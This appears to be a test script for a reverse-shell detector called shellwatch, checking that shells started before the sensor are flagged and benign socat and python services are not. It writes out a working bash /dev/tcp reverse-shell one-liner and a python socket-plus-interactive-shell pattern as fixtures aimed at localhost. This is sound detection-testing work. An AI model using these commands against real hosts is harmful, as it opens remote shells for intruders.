#!/usr/bin/env bash
# prescan.sh: shells that started before the sensor, found by the start-up scan through the
# kernel (the task_file iterator, docs/live.md), with `run` in a network namespace of its own as
# systemd's PrivateNetwork=yes puts it (`unshare -n`: its /proc/net/tcp is empty, so /proc alone
# cannot tell a socket on stdio is a connection, let alone to where). Two shells, both connected
# when run starts (their listeners keep the connections open): a bash reverse shell (the socket on
# its stdio) and python holding a connection on a fd of its own with `sh -i` on pipes (only a
# scan of every fd sees that connection). Each must be alerted at start-up, high, with the
# listener's port as the remote end. The other side, also running before the sensor: an
# inetd-style service (socat fork EXEC) whose sh runs a script with its accepted connection on
# stdio, and python holding a connection with `sh -c 'sleep 60'` on pipes (its command is its
# own, not the network's): neither may raise an alert.
source "$(dirname "$0")/../lib.sh"
source "$SW_ROOT/tests/shells/techniques.sh"   # SW_PY, sw_stop
source "$SW_ROOT/tests/shells/detect.sh"
require_live "shells from before the sensor, run in its own network namespace"
for p in unshare socat "$SW_PY"; do
	command -v "$p" >/dev/null || { tap_fail "$p is installed" "tools/deps.sh install"; exit 0; }
done

# listen NAME: a listener on 127.0.0.1 that holds the connection for 60 s; sets port.
listen() {
	port=$(free_port)
	socat -t 60 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr EXEC:'sleep 60' >/dev/null 2>&1 &
	wait_until 10 listening "$port" || tap_fail "$1: listener on $port" "socat did not listen"
}
connected() { ss -Htn state established "( dport = :$1 )" | grep -q .; }

listen "bash reverse shell"
bash_port=$port
setsid bash -c "bash -i >& /dev/tcp/127.0.0.1/$bash_port 0>&1" </dev/null >/dev/null 2>&1 &
listen "python holding a connection, sh on pipes"
py_port=$port
setsid "$SW_PY" -c 'import socket, subprocess, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT)
time.sleep(60)' "$py_port" </dev/null >/dev/null 2>&1 &
# the benign ones
svc_port=$(free_port)
printf 'read -r line; sleep 60\n' >"$SW_TMP/service.sh"
socat TCP-LISTEN:"$svc_port",bind=127.0.0.1,reuseaddr,fork EXEC:"sh $SW_TMP/service.sh" \
	>/dev/null 2>&1 &
wait_until 10 listening "$svc_port"
socat -t 60 - TCP:127.0.0.1:"$svc_port" < <(sleep 60) >/dev/null 2>&1 &
listen "python holding a connection, sh -c on pipes"
pyc_port=$port
setsid "$SW_PY" -c 'import socket, subprocess, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
p = subprocess.Popen(["/bin/sh", "-c", "sleep 60"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
time.sleep(60)' "$pyc_port" </dev/null >/dev/null 2>&1 &
check "the benign service and client are connected before the sensor starts" \
	wait_until 10 bash -c "ss -Htn state established '( sport = :$svc_port )' | grep -q . &&
		ss -Htn state established '( dport = :$pyc_port )' | grep -q ."
check "both shells are connected before the sensor starts" \
	wait_until 10 bash -c "ss -Htn state established '( dport = :$bash_port )' | grep -q . &&
		ss -Htn state established '( dport = :$py_port )' | grep -q ."
# shellcheck disable=SC2009 # wait for python's sh -i to exist too
wait_until 10 pgrep -f '^/bin/sh -i$' >/dev/null

json=$SW_TMP/alerts.json
SW_RUN_ERR=$SW_TMP/run.err
unshare -n "$SW_BIN" run --json -o "$json" 2>"$SW_RUN_ERR" &
SW_RUN_PID=$!
if ! wait_until 20 grep -q '^shellwatch run: ready' "$SW_RUN_ERR"; then
	tap_fail "run (unshare -n) says ready" "$(tail -n 5 "$SW_RUN_ERR")"
	exit 0
fi
tap_ok "run in a network namespace of its own says ready"
check "that namespace's /proc/net/tcp is empty (what /proc alone would see)" \
	test "$(unshare -n cat /proc/net/tcp | wc -l)" -le 1
has_high() { sw_alert_fields "$json" "$1" shellwatch.severity | grep -qx high; }
check "bash reverse shell (port $bash_port): alerted at start-up, high" wait_until 5 has_high "$bash_port"
check "python's sh on pipes (port $py_port): alerted at start-up, high" wait_until 5 has_high "$py_port"
# both shells above were alerted, so the scan is done and judged: nothing for the benign ones
no_alert() { ! sw_alert_fields "$json" "$1" process.pid | grep -q .; }
check "inetd-style service running a script (port $svc_port): no alert" no_alert "$svc_port"
check "python's sh -c on pipes (port $pyc_port): no alert" no_alert "$pyc_port"
sw_stop "$SW_RUN_PID" "shellwatch run"
for p in "$bash_port" "$py_port"; do
	sw_alert_fields "$json" "$p" process.pid process.name shellwatch.severity shellwatch.signals |
		sed "s/^/# port $p: /"
done
